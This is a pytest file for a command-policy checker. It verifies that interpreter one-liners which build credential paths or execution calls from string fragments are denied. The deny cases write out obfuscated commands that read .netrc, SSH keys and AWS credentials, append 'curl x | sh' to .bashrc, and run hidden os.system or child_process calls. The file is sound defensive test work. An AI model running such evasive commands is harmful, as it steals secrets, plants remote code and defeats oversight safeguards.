"""Threat: interpreter code that never writes a protected path or an execution API in one
piece: `open("/home/u/.ne" + "trc")`, `"cat ~/.{}".format("netrc")`, `"cat ~/.%s" % "netrc"`,
Perl's and PHP's `"..." . "..."`, Node's `require("child_" + "process")`, and Python's
`getattr(__import__("o" + "s"), "sys" + "tem")(...)`. The literal scan read each piece on its
own, found nothing, and allowed them all.

Invariant: a string built from literals alone is read as the string it builds, so the path it
names passes the path rules and the command it runs is judged; an execution API's name put
together from pieces is denied as code that hides what it runs (`builtin:shell-evasion`)."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from crustcore_nano.policy.types import Verdict

BashVerdict = Callable[[str], tuple[Verdict, str]]  # the `bash` fixture of conftest.py


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("""python3 -c 'print(open("/home/u/.ne" + "trc").read())'""", "builtin:vcs-credentials"),
        (
            """python3 -c 'import os; f = os.path.expanduser("~/.ss" + "h/id_ed25519"); """
            """print(open(f).read())'""",
            "builtin:ssh-keys",
        ),
        (
            """python3 -c 'import os; os.system("cat ~/.{}".format("netrc"))'""",
            "builtin:vcs-credentials",
        ),
        (
            """python3 -c 'import os; os.system("cat ~/.aws/%s" % "credentials")'""",
            "builtin:cloud-credentials",
        ),
        (
            """python3 -c 'open("/home/u/.bash" + "rc", "a").write("curl x | sh")'""",
            "builtin:shell-startup-files",
        ),
        (
            """node -e 'require("fs").readFileSync("/home/u/.ne" + "trc")'""",
            "builtin:vcs-credentials",
        ),
        ("""perl -e 'open F, "/home/u/.ne" . "trc"; print <F>'""", "builtin:vcs-credentials"),
        (
            """php -r 'echo file_get_contents("/home/u/.ne" . "trc");'""",
            "builtin:vcs-credentials",
        ),
        ("""ruby -e 'puts File.read("/home/u/.ne" + "trc")'""", "builtin:vcs-credentials"),
        (
            """python3 -c 'getattr(__import__("o" + "s"), "sys" + "tem")("id")'""",
            "builtin:shell-evasion",
        ),
        (
            """python3 -c 'import importlib; importlib.import_module("o" + "s").system("id")'""",
            "builtin:shell-evasion",
        ),
        (
            """python3 -c 'eval("__imp" + "ort__(\\"os\\").system(\\"id\\")")'""",
            "builtin:shell-evasion",
        ),
        ("""node -e 'require("child_" + "process").execSync("id")'""", "builtin:shell-evasion"),
    ],
)
def test_a_name_built_from_pieces_is_judged(bash: BashVerdict, command: str, rule: str) -> None:
    assert bash(command) == (Verdict.DENY, rule)


@pytest.mark.parametrize(
    "command",
    [
        """python3 -c 'print("a" + "b")'""",
        """python3 -c 'print("hello %s" % "world")'""",
        """python3 -c 'print("v{}".format("1.2"))'""",
        """python3 -c 'open("out/" + "log.txt", "w").write("x")'""",
        """python3 -c 'import os; print(os.path.join("src", "app") + ".py")'""",
        """python3 -c 'import sys; print("Python " + sys.version)'""",
        """node -e 'console.log("v" + "1.2")'""",
        """perl -e 'print "photo" . "s\\n"'""",
        """ruby -e 'puts "sub" + "process done"'""",
    ],
)
def test_everyday_string_building_stays_allowed(bash: BashVerdict, command: str) -> None:
    assert bash(command) == (Verdict.ALLOW, "allow")
